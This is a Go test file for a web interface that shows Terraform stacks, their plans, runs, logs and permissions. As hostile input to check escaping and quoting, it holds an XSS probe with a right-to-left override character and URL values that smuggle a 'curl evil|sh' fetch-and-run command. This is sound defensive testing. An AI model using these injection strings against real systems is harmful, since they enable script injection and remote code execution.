// Copyright The Yuba Authors
// SPDX-License-Identifier: Apache-2.0

package stack

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	infrav1 "github.com/yuba-dev/yuba/api/infra/v1alpha2"
	"github.com/yuba-dev/yuba/internal/runs/run"
	"github.com/yuba-dev/yuba/internal/testkit/apitest"
	"github.com/yuba-dev/yuba/internal/tofu/plan"
	"github.com/yuba-dev/yuba/internal/tofu/state"
)

const (
	digest   = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	hostile  = `<script>alert(1)</script>` + "\u202e"
	plannedR = "20260102-150405.000-aaaaaaaaaa"
)

// waits makes the plan of a run the pending one.
func (w *world) waits(id string) {
	w.Helper()
	w.status(func(s *infrav1.TerraformStatus) {
		s.ObservedGeneration = w.stack.Generation
		s.Plan = infrav1.PlanStatus{Pending: id, Digest: digest, Summary: "+1 ~0 -0", RunID: plannedR}
		s.LastRun = &infrav1.RunReference{ID: plannedR, Operation: "plan", Status: "succeeded"}
		s.Conditions = []metav1.Condition{{Type: infrav1.ConditionReady, Status: metav1.ConditionUnknown, Reason: infrav1.ReasonPlannedWithChanges, Message: hostile, LastTransitionTime: metav1.Now()}}
	})
}

// planned makes a run with a plan that the real tool has described.
func (w *world) planned() {
	w.Helper()
	show, err := os.ReadFile("../../tofu/plan/testdata/updates-replacements-and-a-move.json")
	if err != nil {
		w.Fatal(err)
	}
	d, err := plan.Describe(show)
	if err != nil {
		w.Fatal(err)
	}
	w.begin(plannedR)
	w.runner(plannedR, http.MethodPut, "/log", []byte(logLine("Plan made "+hostile)), 0)
	w.runner(plannedR, http.MethodPut, "/plan.json", d.Document, 0)
	w.end(plannedR, run.Result{Outcome: run.OutcomeSucceeded, Finished: time.Now(), Plan: &run.PlanResult{Changes: true, Counts: run.Counts{Add: 1}}, Warnings: []string{hostile},
		Steps: []run.StepReport{{Step: run.StepPlan, Started: time.Now(), Wall: run.Duration(time.Second)}}})
}

func logLine(text string) string {
	line, err := json.Marshal(map[string]string{"@level": "info", "@message": text, "@timestamp": "2026-01-02T15:04:05Z", "type": "log"})
	if err != nil {
		panic(err)
	}
	return string(line) + "\n"
}

func TestThePagesOfAStack(t *testing.T) {
	w := newWorld(t, func(s *infrav1.Terraform) {
		s.Spec.Vars = []infrav1.Variable{{Name: "size", Value: nil}}
		s.Spec.VarsFrom = []infrav1.VarsReference{{Kind: "ConfigMap", Name: "settings"}, {Kind: "Secret", Name: "keys"}}
		s.Annotations = map[string]string{lastApplied: "{}"}
	})
	settings := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: w.stack.Namespace, Name: "settings"}, Data: map[string]string{"region": hostile}}
	if err := apitest.Client(t).Create(t.Context(), settings); err != nil {
		t.Fatal(err)
	}
	w.planned()
	w.waits("plan-main-1")
	_, err := shared.states.Write(t.Context(), state.Key{Namespace: w.stack.Namespace, Workspace: "default", Suffix: "vpc", Stack: "vpc"}, state.WriteRequest{RunID: plannedR,
		Data: []byte(`{"version":4,"terraform_version":"1.12.0","serial":1,"lineage":"l","outputs":{"id":{"value":"<b>vpc-1","type":"string"},"key":{"value":"hunter2","type":"string","sensitive":true}},"resources":[]}`)})
	if err != nil {
		t.Fatal(err)
	}
	for path, texts := range map[string][]string{
		"":                              {"pending", "yuba approve", "plan-main-1 waits for approval", `value="` + digest + `"`, "Destroy its resources"},
		"/plan":                         {"This plan waits for approval", "will be updated in place", "(sensitive value)", "forces replacement", "moved from"},
		"/plan?as=text":                 {"Actions in this plan:"},
		"/plan?run=" + plannedR:         {"Approve"},
		"/runs":                         {plannedR, "succeeded", "&lt;i&gt;reason"},
		"/runs/" + plannedR:             {"Plan made &lt;script&gt;", "Warning: &lt;script&gt;", `id="L1"`},
		"/runs/" + plannedR + "?q=MADE": {"1 line of 1 found"},
		"/states":                       {"current", plannedR},
		"/inputs":                       {"ConfigMap settings, key region", "&lt;script&gt;", "Secret keys"},
		"/outputs":                      {"&lt;b&gt;vpc-1", "(sensitive value)"},
		"/outputs?show=key":             {"hunter2"},
		"/graph":                        {"It depends on"},
		"/why":                          {"a plan waits for approval", "&lt;b&gt;because"},
		"/events":                       {"There are no events"},
		"/yaml":                         {"kind: Terraform"},
	} {
		body := w.sees("root", path, texts...)
		for _, text := range []string{"<script>alert", "\u202e", "<b>vpc-", "<i>reason"} {
			if before, _, found := strings.Cut(body, text); found {
				t.Errorf("%s has hostile text as it is, after %s", path, before[max(0, len(before)-100):])
			}
		}
		if strings.Contains(body, "hunter2") && path != "/outputs?show=key" {
			t.Errorf("%s has a secret", path)
		}
		if strings.Contains(body, "managedFields") || strings.Contains(body, lastApplied) {
			t.Errorf("%s has what only machines need", path)
		}
	}
	if _, body := w.get("root", "/runs/"+plannedR+"/log.txt"); !strings.Contains(body, `Plan made <script>alert(1)</script>\u202e`) {
		t.Errorf("the log as text: %q", body)
	}
	if _, body := w.get("root", "/runs/"+plannedR+"/log.jsonl"); !strings.Contains(body, `"@message"`) {
		t.Errorf("the log as it is stored: %q", body)
	}
	if _, body := w.get("root", "/plan.txt?run="+plannedR); !strings.Contains(body, "Actions in this plan:") {
		t.Errorf("the plan as text: %q", body)
	}
}

func TestWhatIsGoneSaysWhatBecameOfIt(t *testing.T) {
	w := newWorld(t)
	for path, text := range map[string]string{
		"/runs/20260101-000000.000-bbbbbbbbbb":     "is not stored: it never was, or its record was removed",
		"/plan?run=20260101-000000.000-bbbbbbbbbb": "does not have a run 20260101-000000.000-bbbbbbbbbb",
	} {
		if code, body := w.get("root", path); code != http.StatusNotFound || !strings.Contains(body, text) {
			t.Errorf("%s: %d %s", path, code, body)
		}
	}
	// What the address says is a word of the command, and no command.
	if _, body := w.get("root", "/plan?run=x%3Bcurl%20evil%7Csh"); !strings.Contains(body, `--run &#39;x;curl evil|sh&#39;</pre>`) || strings.Contains(body, "--run x;") {
		t.Error(body)
	}
	if code, body := w.send("root", w.request(http.MethodGet, "/stacks/a%3Bcurl%20evil%7Csh/x", "")); code != http.StatusNotFound || strings.Contains(body, "yuba list -n a;") {
		t.Errorf("%d %s", code, body)
	}
	event := &corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: w.stack.Namespace, Name: "gone.1"}, Reason: "Deleted", Message: "somebody deleted it", LastTimestamp: metav1.Now(),
		InvolvedObject: corev1.ObjectReference{Kind: "Terraform", Name: "old", Namespace: w.stack.Namespace}}
	if err := apitest.Client(t).Create(t.Context(), event); err != nil {
		t.Fatal(err)
	}
	code, body := w.send("root", w.request(http.MethodGet, "/stacks/"+w.stack.Namespace+"/old/plan", ""))
	if code != http.StatusNotFound || !strings.Contains(body, "There is no stack") || !strings.Contains(body, "somebody deleted it") {
		t.Errorf("%d %s", code, body)
	}
	code, body = w.send("root", w.request(http.MethodGet, "/stacks/"+w.stack.Namespace+"/never", ""))
	if code != http.StatusNotFound || !strings.Contains(body, "it was never there, or was deleted some time ago") {
		t.Errorf("%d %s", code, body)
	}
}

func TestWhoMayOnlyViewSeesWhichRightsAreMissing(t *testing.T) {
	w := newWorld(t)
	w.planned()
	w.waits("plan-main-1")
	who := w.viewer()
	eventually(t, "the binding counts", func() bool { code, _ := w.get(who, ""); return code == http.StatusOK })
	w.sees(who, "", "disabled title=\"You need the right to patch terraforms.infra.contrib.fluxcd.io in namespace "+w.stack.Namespace)
	w.sees(who, "/plan", "will be updated in place")
	w.sees(who, "/states", "You may not see this")
	w.sees(who, "/outputs", "You may not see this")
	for verb, form := range map[string][]string{"approve": {"plan", "plan-main-1", "digest", digest}, "suspend": nil, "replan": nil,
		"delete": {"typed", "vpc", "uid", string(w.stack.UID), "generation", "1"}, "cancel": {"run", "r"}} {
		if code, said := w.does(who, verb, form...); code != http.StatusForbidden {
			t.Errorf("%s: %d %s", verb, code, said)
		}
	}
	if code, _ := w.get("stranger", ""); code != http.StatusForbidden {
		t.Errorf("a stranger gets %d", code)
	}
}

// eventually waits until something is so; bindings take a moment.
func eventually(t *testing.T, what string, is func() bool) {
	t.Helper()
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for end := time.Now().Add(30 * time.Second); !is(); <-tick.C {
		if time.Now().After(end) {
			t.Fatalf("never: %s", what)
		}
	}
}

func TestALogIsFollowed(t *testing.T) {
	w := newWorld(t)
	const id = "20260102-150405.000-cccccccccc"
	w.begin(id)
	first, second := logLine("first"), logLine("second")
	w.runner(id, http.MethodPut, "/log", []byte(first+second), 0)
	w.sees("root", "/runs/"+id, `data-follow="`+w.path("/runs/"+id+"/log?after=2")+`"`, "running", `id="L2"`)
	r := w.request(http.MethodGet, w.path("/runs/"+id+"/log?after=1"), "")
	r.Header.Set(whoHeader, "root")
	response, err := http.DefaultTransport.RoundTrip(r)
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	stream := bufio.NewScanner(response.Body)
	next := func(wanted ...string) {
		t.Helper()
		for stream.Scan() {
			if strings.Contains(stream.Text(), wanted[0]) {
				wanted = wanted[1:]
			}
			if len(wanted) == 0 {
				return
			}
			if strings.Contains(stream.Text(), "first") {
				t.Error("a line that the browser has is sent again")
			}
		}
		t.Fatalf("the stream ended before %q: %v", wanted, stream.Err())
	}
	next("id: 2", "event: lines", "second")
	third := `{"@level":"info","@message":"x: Creating...","type":"apply_start","hook":{"resource":{"addr":"x"},"action":"create"}}` + "\n"
	w.runner(id, http.MethodPut, "/log", []byte(third), len(first+second))
	next("event: lines", "x: Creating...", "event: parts", "stack-resources")
	w.end(id, run.Result{Outcome: run.OutcomeFailed, Error: "it broke " + hostile, FailedStep: run.StepApply, Finished: time.Now()})
	next("event: end")
	w.sees("root", "/runs/"+id, "it broke &lt;script&gt;", "failed", fmt.Sprintf("%d lines", 3))
}
